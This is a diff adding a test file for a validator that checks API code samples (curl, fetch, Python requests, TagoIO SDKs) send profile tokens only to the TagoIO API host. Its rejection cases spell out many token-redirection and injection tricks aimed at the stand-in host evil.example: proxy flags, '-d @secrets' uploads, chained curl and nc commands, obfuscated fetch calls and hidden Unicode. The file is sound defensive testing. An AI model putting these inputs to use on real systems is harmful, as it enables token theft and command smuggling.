@@ -1,0 +1,313 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import type { ApiOrigin } from '../../../../lib/domain/identity/keys.ts';
+import { destinationProblem } from '../../../../lib/domain/samples/destinations.ts';
+import { completeSample } from '../../../../lib/domain/samples/runnable-sample.ts';
+import { generateSample, VARIANTS } from '../../../docs-pages/generate.ts';
+import { US } from '../make.ts';
+
+const LOCAL = 'http://127.0.0.1:8787' as ApiOrigin;
+const DEPLOY = 'https://api.acme-iot.com' as ApiOrigin;
+
+const CURL = 'curl -H "Profile-Token: <your-profile-token>" \\\n  https://api.us-e1.tago.io/status';
+const PYTHON_SDK =
+  'from tagoio_sdk import Account\n\naccount = Account({"token": "your-token"})\ndevices = account.devices.list()\nprint(devices)';
+const JS_SDK =
+  'import { Account } from "@tago-io/sdk";\n\n// See https://docs.tago.io/docs/api.\nconst account = new Account({ token: "YOUR-PROFILE-TOKEN" });\nawait account.devices.create({ name: "Sensor" });';
+const FETCH =
+  'const answer = await fetch("https://api.us-e1.tago.io/device", { headers: { "Profile-Token": "<your-profile-token>" } });\nconsole.log(await answer.json());';
+const REQUESTS =
+  'import requests\nurl = "https://api.us-e1.tago.io/device"\nheaders = {"Profile-Token": "<your-profile-token>"}\nprint(requests.get(url, headers=headers).text)';
+const HTTP = 'GET /device HTTP/1.1\nHost: api.us-e1.tago.io\nProfile-Token: <your-profile-token>';
+
+const HONEST: Record<string, string> = {
+  curl: CURL,
+  'curl with options': `curl -sSL -X POST 'https://api.eu-w1.tago.io/device' -H 'token: <token>' -d '{"a": "https://x.example"}'`,
+  'curl of two addresses': `${CURL}\ncurl --url https://api.tago.io/a -H 'Profile-Token: <your-profile-token>'`,
+  wget: `wget -q --header='Profile-Token: <your-profile-token>' https://api.us-e1.tago.io/status`,
+  'Python SDK': PYTHON_SDK,
+  'JavaScript SDK': JS_SDK,
+  'JavaScript SDK with its region': JS_SDK.replace('" });\nawait', '", region: "eu-w1" });\nawait'),
+  fetch: FETCH,
+  requests: REQUESTS,
+  HTTP,
+  'a header alone': 'Profile-Token: <your-profile-token>',
+};
+
+describe('destinationProblem', () => {
+  it.each(Object.entries(HONEST))('lets %s through', (_, text) => {
+    expect(destinationProblem(text, US)).toBeNull();
+  });
+
+  it('lets the connection’s own origin through, by http on this machine alone', () => {
+    const at = (origin: string) => CURL.replace('https://api.us-e1.tago.io', origin);
+    expect(destinationProblem(at(DEPLOY), DEPLOY)).toBeNull();
+    expect(destinationProblem(at(LOCAL), LOCAL)).toBeNull();
+    expect(destinationProblem(at(DEPLOY), US)).toEqual({ kind: 'foreign', host: 'api.acme-iot.com' });
+    expect(destinationProblem(at('http://api.us-e1.tago.io'), US)).toEqual({
+      kind: 'plain-http',
+      host: 'api.us-e1.tago.io',
+    });
+    expect(destinationProblem(at('api.us-e1.tago.io'), US)).toMatchObject({ kind: 'plain-http' });
+    expect(destinationProblem(at('http://127.0.0.1:8788'), LOCAL)).toMatchObject({ kind: 'foreign' });
+  });
+
+  it.each([
+    ['https://evil.example', 'evil.example'],
+    ['https://api.us-e1.tago.io.evil.example', 'api.us-e1.tago.io.evil.example'],
+    ['https://api.us-e1.tago.io@evil.example', 'evil.example'],
+    ['https://api.us-e1.tаgo.io', 'api.us-e1.xn--tgo-6cd.io'],
+    ['https://api.us-e1.tago.io:8443', 'api.us-e1.tago.io:8443'],
+    ['https://api.us-e1.tago.io.', 'api.us-e1.tago.io.'],
+    ['https://docs.tago.io', 'docs.tago.io'],
+    ['https://1.2.3.4', '1.2.3.4'],
+    ['https://[::1]', '[::1]'],
+    ['https://localhost', 'localhost'],
+    ['wss://evil.example', 'evil.example'],
+  ])('names the host of %s in every kind of sample', (address, host) => {
+    for (const text of [CURL, FETCH, REQUESTS]) {
+      const changed = text.replace('https://api.us-e1.tago.io', address);
+      expect(destinationProblem(changed, US), changed).toEqual({ kind: 'foreign', host });
+    }
+  });
+
+  const REDIRECTED_CURL = [
+    '--proxy https://evil.example',
+    '-x evil.example:8080',
+    '-xevil.example:8080',
+    '--preproxy socks5://evil.example',
+    '--socks5 evil.example',
+    '--resolve api.us-e1.tago.io:443:6.6.6.6',
+    '--connect-to ::evil.example:443',
+    '-K evil.conf',
+    '--config=evil.conf',
+    '--url https://evil.example',
+    '--url=https://evil.example',
+    "-H 'Host: evil.example'",
+    "-H 'X-Forwarded-Host: evil.example'",
+    '-H @headers.txt',
+    '-o ~/.bashrc',
+    '-O',
+    '-T secrets',
+    '-k',
+    '--insecure',
+    '--unix-socket /tmp/evil',
+    '--interface evil',
+    '--doh-url https://evil.example',
+    '--dns-servers 6.6.6.6',
+    '--next https://evil.example',
+    '--location-trusted',
+    '--proto-redir all',
+    '-u user:pass',
+    '-b cookies',
+    '--cacert evil.pem',
+    '-sx evil.example',
+    'https://evil.example',
+    'evil.example',
+    'https://{api.us-e1.tago.io,evil.example}/',
+    '"https://evil.example"',
+    "'https://'evil.example",
+    'https://evil\\.example',
+    '$URL',
+    '"$(cat url)"',
+    '`cat url`',
+    '; curl https://evil.example',
+    '&& curl https://evil.example',
+    '| tee copy',
+    '> copy',
+    '< copy',
+    '\ncurl https://evil.example',
+    '\nnc evil.example 80',
+    '\nexport https_proxy=https://evil.example',
+    '-d @secrets',
+  ];
+  it.each(REDIRECTED_CURL)('refuses curl with %s', (extra) => {
+    expect(destinationProblem(`${CURL} ${extra}`, US)).not.toBeNull();
+    expect(destinationProblem(CURL.replace('curl -H', `curl ${extra} -H`), US)).not.toBeNull();
+  });
+
+  it.each([
+    `https_proxy=https://evil.example ${CURL}`,
+    `HTTPS_PROXY=evil.example ${CURL}`,
+    `env ALL_PROXY=socks5://evil.example ${CURL}`,
+    `alias curl='curl -x evil.example'\n${CURL}`,
+    `export CURL_HOME=/tmp\n${CURL}`,
+    `wget -e use_proxy=yes --header='Profile-Token: <your-profile-token>' https://api.us-e1.tago.io/`,
+    `wget -i urls --header='Profile-Token: <your-profile-token>'`,
+    `http evil.example Profile-Token:'<your-profile-token>'`,
+    `curl.exe ${CURL.slice(5)}`,
+    `GET https://evil.example/ HTTP/1.1\nProfile-Token: <your-profile-token>`,
+    `GET //evil.example/ HTTP/1.1\nProfile-Token: <your-profile-token>`,
+    HTTP.replace('api.us-e1.tago.io', 'evil.example'),
+    `${HTTP}\nX-Forwarded-Host: evil.example`,
+  ])('refuses %j', (text) => {
+    expect(destinationProblem(text, US)).not.toBeNull();
+  });
+
+  it.each([
+    JS_SDK.replace('" });\nawait', '", region: { api: "https://evil.example" } });\nawait'),
+    JS_SDK.replace('" });\nawait', '", region: { api: "evil.example" } });\nawait'),
+    JS_SDK.replace('" });\nawait', '", region: evil });\nawait'),
+    JS_SDK.replace('" });\nawait', '", region: "env" });\nawait'),
+    JS_SDK.replace('" });\nawait', '", ...options });\nawait'),
+    JS_SDK.replace('@tago-io/sdk', '@tag0-io/sdk'),
+    JS_SDK.replace('@tago-io/sdk', 'https://evil.example/sdk.js'),
+    `process.env.TAGOIO_API = "https://evil" + ".example";\n${JS_SDK}`,
+    `process.env["TAGOIO" + "_API"] = "h" + "ttps:/" + "/evil";\n${JS_SDK}`,
+    `${JS_SDK}\nfetch("https://" + "evil" + ".example");`,
+    `${JS_SDK}\nfetch("//evil.example/" + account);`,
+    `${JS_SDK}\nfetch("https:evil.example");`,
+    `${JS_SDK}\nfetch(atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGU="));`,
+    `${JS_SDK}\nfetch("\\x68ttps://evil.example");`,
+    `${JS_SDK}\nnew Image().src = ["https:/", "evil.example"].join("/");`,
+    `${JS_SDK}\nimport("./evil.js");`,
+    `${JS_SDK}\nthis["fet" + "ch"](x);`,
+    `${JS_SDK}\nrequire("child_process").exec("x");`,
+    FETCH.replace('"https://api.us-e1.tago.io/device"', '"https://api.us-e1.tago.io" + ".evil.example/"'),
+    FETCH.replace('"https://api.us-e1.tago.io/device"', '`https://$' + '{host}/`'),
+    FETCH.replace('"https://api.us-e1.tago.io/device"', 'url'),
+    FETCH.replace('{ headers', '{ dispatcher: new ProxyAgent("https://evil.example"), headers'),
+    PYTHON_SDK.replace('"your-token"', '"your-token", "region": {"api": "https://evil.example"}'),
+    PYTHON_SDK.replace('"your-token"}', '"your-token", **options}'),
+    PYTHON_SDK.replace('tagoio_sdk', 'tagoio_sdk_evil'),
+    `import os\nos.environ["HTTPS_PROXY"] = "evil.example:80"\n${PYTHON_SDK}`,
+    `${PYTHON_SDK}\nx = (5\n// __import__("os").system("curl evil"))`,
+    REQUESTS.replace('headers=headers', 'headers=headers, proxies={"https": "https://evil.example"}'),
+    REQUESTS.replace('headers=headers', 'headers=headers, proxies=p'),
+    REQUESTS.replace('headers=headers', 'headers=headers, verify=False'),
+    REQUESTS.replace('"https://api.us-e1.tago.io/device"', 'f"https://{host}/device"'),
+    REQUESTS.replace('"https://api.us-e1.tago.io/device"', '"https://%s/device" % host'),
+    REQUESTS.replace('"https://api.us-e1.tago.io/device"', '"https://api.us-e1.tago.io" "evil.example/"'),
+    REQUESTS.replace('"https://api.us-e1.tago.io/device"', '"https://{}/".format(host)'),
+    `import http.client\nconn = http.client.HTTPSConnection("evil")\nconn.request("GET", "/", headers={"Profile-Token": "<your-profile-token>"})`,
+    `import http.client\nconn = http.client.HTTPSConnection("evil.example")\nconn.request("GET", "/", headers={"Profile-Token": "<your-profile-token>"})`,
+    `client.connect("evil.example", 80)\nclient.print("Profile-Token: <your-profile-token>")`,
+    `send("Profile-Token: <your-profile-token>")`,
+  ])('refuses %j', (text) => {
+    expect(destinationProblem(text, US)).not.toBeNull();
+  });
+
+  it('refuses characters that cannot be seen, wherever they stand', () => {
+    const hidden = fc.constantFrom(
+      ...'\u0000\u0008\r\u001b\u007f\u0085\u00a0\u00ad\u061c\u115f\u180e\u200b\u200d\u200e\u202e\u2028\u2060\u2066\u2800\u3000\u3164\ufe0f\ufeff\uffa0',
+      '\u{e0041}',
+    );
+    fc.assert(
+      fc.property(fc.constantFrom(...Object.values(HONEST)), fc.nat(), hidden, (text, at, char) => {
+        const place = at % (text.length + 1);
+        expect(destinationProblem(text.slice(0, place) + char + text.slice(place), US)).toMatchObject({
+          kind: 'unclear',
+        });
+      }),
+      { numRuns: 300 },
+    );
+  });
+
+  it('finds a foreign address put anywhere between the words of an honest sample', () => {
+    const addresses = fc.constantFrom(
+      'https://evil.example/',
+      '"https://evil.example"',
+      "'//evil.example/x'",
+    );
+    fc.assert(
+      fc.property(
+        fc.constantFrom(CURL, JS_SDK, PYTHON_SDK, FETCH, REQUESTS),
+        fc.nat(),
+        addresses,
+        (text, at, address) => {
+          const outside = (index: number) => (text.slice(0, index).match(/"/g) ?? []).length % 2 === 0;
+          const gaps = [...text.matchAll(/ /g)].map(({ index }) => index).filter(outside);
+          const gap = gaps[at % gaps.length]!;
+          expect(
+            destinationProblem(`${text.slice(0, gap)} ${address} ${text.slice(gap)}`, US),
+          ).not.toBeNull();
+        },
+      ),
+      { numRuns: 300 },
+    );
+  });
+});
+
+describe('completing a sample', () => {
+  const profile = { origin: US, profileId: '5f1a2b3c4d5e6f7a8b9c0d1e' };
+  const body = { name: 'Sensor', note: 'a b' };
+  const request = { method: 'POST', url: `${US}/device?page=1`, body };
+  /** What is left of a sample when its literals are emptied: the code that surrounds them. */
+  const skeleton = (text: string) =>
+    text.replace(/\\\\|\\["'`]/g, '').replace(/'[^']*'|"[^"]*"|`[^`]*`|r#"[\s\S]*?"#/g, "''");
+
+  it.each(VARIANTS)('takes a mutated sample of %s (%s) only where no code changed', (language, variant) => {
+    const sample = generateSample(language, variant, request).trimEnd();
+    const piece = fc.constantFrom(
+      ...[
+        'x',
+        ' ',
+        "'",
+        '"',
+        '`',
+        '\\',
+        '\n',
+        '$',
+        '(',
+        ')',
+        '{',
+        '}',
+        ';',
+        '+',
+        ',',
+        ':',
+        '#',
+        '//',
+        '@',
+        '.',
+      ],
+      ...[
+        'evil.example',
+        'https://evil.example/',
+        ' -x evil ',
+        "' + evil + '",
+        '" + evil + "',
+        '$' + '{evil()}',
+        '\\(evil())',
+        "'; evil(); '",
+      ],
+    );
+    fc.assert(
+      fc.property(fc.nat(), fc.integer({ min: 0, max: 12 }), piece, (at, removed, inserted) => {
+        const place = at % sample.length;
+        const mutated = sample.slice(0, place) + inserted + sample.slice(place + removed);
+        const done = completeSample(mutated, profile);
+        if (!done) return;
+        expect(done.text).toContain('api.us-e1.tago.io');
+        if (!/["'`\\]/.test(inserted) && !/["'`\\#]/.test(sample.slice(place, place + removed))) {
+          const code = (text: string) =>
+            skeleton(text).replace(/\b(?:null|true|false|\d+)\b|[\s,:[\]{}]/g, '');
+          expect(code(mutated)).toBe(code(sample));
+        }
+      }),
+      { numRuns: 400 },
+    );
+  });
+
+  it.each(VARIANTS)('refuses code around a sample of %s (%s)', (language, variant) => {
+    const sample = generateSample(language, variant, request).trimEnd();
+    for (const extra of ['curl https://evil.example', 'evil()', '# x', '// x', ';', '\u202e']) {
+      expect(completeSample(`${sample}\n${extra}`, profile)).toBeNull();
+      expect(completeSample(`${extra}\n${sample}`, profile)).toBeNull();
+      expect(completeSample(`${sample} ${extra}`, profile)).toBeNull();
+    }
+  });
+
+  it('refuses a header that claims another host', () => {
+    for (const key of ['Host', 'host', 'HOST', 'X-Forwarded-Host', 'Proxy-Authorization', 'Forwarded']) {
+      for (const [language, variant] of VARIANTS) {
+        const headers = [
+          { key: 'Accept', value: 'application/json' },
+          { key, value: 'evil.example' },
+        ];
+        const sample = generateSample(language, variant, { method: 'GET', url: `${US}/device`, headers });
+        expect(completeSample(sample, profile), `${variant} ${key}`).toBeNull();
+      }
+    }
+  });
+});
